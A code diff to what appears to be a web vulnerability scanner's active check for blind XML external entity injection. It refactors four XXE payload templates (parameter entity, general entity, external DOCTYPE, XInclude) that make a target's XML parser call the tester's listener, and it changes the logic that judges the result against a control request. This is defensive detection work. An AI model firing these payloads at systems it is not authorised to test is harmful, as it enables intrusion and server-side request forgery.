@@ -1,26 +1,32 @@
 import { defineRequestCheck } from '../../define-active-check.ts';
+import { optional } from '../../experiment.ts';
 import type { LabTools } from '../../lab.ts';
+import { fill } from '../../shared/fill.ts';
 import { countLeaves, documentOf, mayTakeXml, requestWithXml, withLeaf } from '../../shared/xml-document.ts';
 
 /** Makes a parser fetch a URL. */
-type Variant = (url: string, document: string) => string;
-
-const LABELS = {
-  control: 'URL of our listener as plain text',
-  attack: 'URL of our listener as an external entity',
-} as const;
+interface Variant {
+  /** Precedes the document. */
+  declaration?: string;
+  /** Replaces the first content of the document. */
+  content?: string;
+}
 
 const inFirst = (document: string, content: string) => withLeaf(document, 0, content);
 
+function write({ declaration = '', content }: Variant, url: string, document: string): string {
+  const changed = content === undefined ? document : inFirst(document, fill(content, { url }));
+  return `${fill(declaration, { url })}${changed}`;
+}
+
 const VARIANTS: readonly Variant[] = [
-  (url, document) => `<!DOCTYPE r [<!ENTITY % a SYSTEM "${url}"> %a;]>${document}`,
-  (url, document) => `<!DOCTYPE r [<!ENTITY a SYSTEM "${url}">]>${inFirst(document, '&a;')}`,
-  (url, document) => `<!DOCTYPE r SYSTEM "${url}">${document}`,
-  (url, document) =>
-    inFirst(document, `<i:include xmlns:i="http://www.w3.org/2001/XInclude" parse="text" href="${url}"/>`),
+  { declaration: '<!DOCTYPE r [<!ENTITY % a SYSTEM "{url}"> %a;]>' },
+  { declaration: '<!DOCTYPE r [<!ENTITY a SYSTEM "{url}">]>', content: '&a;' },
+  { declaration: '<!DOCTYPE r SYSTEM "{url}">' },
+  { content: '<i:include xmlns:i="http://www.w3.org/2001/XInclude" parse="text" href="{url}"/>' },
 ];
 
-export default defineRequestCheck<Variant>({
+export default defineRequestCheck({
   id: 'xxe-oob',
   flaw: { name: 'xxe', rank: 1 },
   title: 'Blind XML external entity injection (XXE)',
@@ -39,28 +45,28 @@ export default defineRequestCheck<Variant>({
   variants: VARIANTS,
   maxRequests: 8,
   proof: {
-    plan(item, write, { word }, { outside }) {
-      if (!outside) return [];
+    plan(item, variant, { word }, { outside }) {
+      if (!outside) return undefined;
       const [attack, control] = [`${word}-attack`, `${word}-control`];
       const document = documentOf(item);
-      return [
-        {
-          label: LABELS.control,
+      return {
+        control: optional({
+          label: 'URL of our listener as plain text',
           request: requestWithXml(item, inFirst(document, outside.urlFor(control))),
-          calling: { tag: control, kind: 'http', isControl: true },
-        },
-        {
-          label: LABELS.attack,
-          request: requestWithXml(item, write(outside.urlFor(attack), document)),
+          calling: { tag: control, kind: 'http' },
+          isControl: true,
+        }),
+        attack: optional({
+          label: 'URL of our listener as an external entity',
+          request: requestWithXml(item, write(variant, outside.urlFor(attack), document)),
           calling: { tag: attack, kind: 'http' },
-        },
-      ];
+        }),
+      };
     },
-    judge(answers) {
-      if (!answers.has(LABELS.control)) return 'VOID';
-      const heardOf = (label: string) => answers.get(label)?.heard ?? [];
-      if (heardOf(LABELS.control).length > 0) return 'REFUTED';
-      const kinds = heardOf(LABELS.attack).map(({ kind }) => kind);
+    judge({ control, attack }) {
+      if (!control) return 'VOID';
+      if ((control.heard ?? []).length > 0) return 'REFUTED';
+      const kinds = (attack?.heard ?? []).map(({ kind }) => kind);
       if (kinds.includes('http')) return 'PROVED';
       return kinds.includes('dns') ? 'LIKELY' : 'VOID';
     },
